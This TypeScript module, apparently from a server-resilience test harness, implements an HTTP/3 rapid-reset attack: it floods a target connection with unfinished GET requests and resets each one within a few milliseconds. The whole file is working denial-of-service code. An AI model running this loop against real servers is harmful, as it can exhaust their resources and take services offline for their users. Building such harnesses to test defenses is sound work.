import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "../../attack.ts";
import { get } from "../../clients/http3-frames.ts";
import { RawHttp3 } from "../../clients/raw-http3.ts";

/** Source of its own: one whose connections were ended for another attack may begin fewer. */
const from = "127.0.0.41";

/** Unfinished requests, each reset 2 to 5 ms after its start, on one connection for as long as it lasts. */
export const requestResets: Attack = {
  name: "requests that are reset",
  unit: "resets",
  async run(target, signal, tally) {
    while (!signal.aborted) {
      const client = await RawHttp3.open(target, { from });
      for (let i = 0; client.hasRoom && !signal.aborted; i++) {
        const id = client.request(get("/", target), false);
        await sleep(2 + (i % 4));
        client.reset(id);
        tally();
      }
      client.close();
    }
  },
};
